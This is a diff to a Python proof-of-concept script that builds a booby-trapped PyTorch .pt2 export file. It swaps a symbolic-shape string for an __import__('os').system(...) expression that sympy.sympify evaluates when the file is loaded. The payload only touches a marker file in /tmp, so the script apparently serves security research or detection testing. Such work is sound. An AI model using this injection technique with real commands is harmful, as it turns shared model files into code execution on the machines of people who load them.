@@ -2,17 +2,12 @@
 # strings (range_constraints keys, SymInt expr_str) that torch.export.load passes to sympy.sympify,
 # which eval()s them. One of them is replaced by a Python expression that runs the payload and
 # still evaluates to the original symbol.
-import torch, zipfile, os, json
+import zipfile, os, json, sys
 here = os.path.dirname(os.path.abspath(__file__))
-class M(torch.nn.Module):
-    def __init__(s):
-        super().__init__(); s.l = torch.nn.Linear(2, 2)
-    def forward(s, x): return s.l(x)
+sys.path.insert(0, os.path.join(here, "../.."))
+from pt2_decoy import export_base  # noqa: E402
 base = os.path.join(here, "dyn.pt2")
-if not os.path.exists(base):
-    b = torch.export.Dim("b", min=2, max=64)
-    ep = torch.export.export(M(), (torch.randn(4, 2),), dynamic_shapes={"x": {0: b}})
-    torch.export.save(ep, base)
+export_base(base, dynamic=True)
 zin = zipfile.ZipFile(base)
 SYM = "Symbol('s77', positive=True, integer=True)"
 evil = "(__import__('os').system('touch /tmp/review39b/pwned_pt2_sympy') and 0) or " + SYM
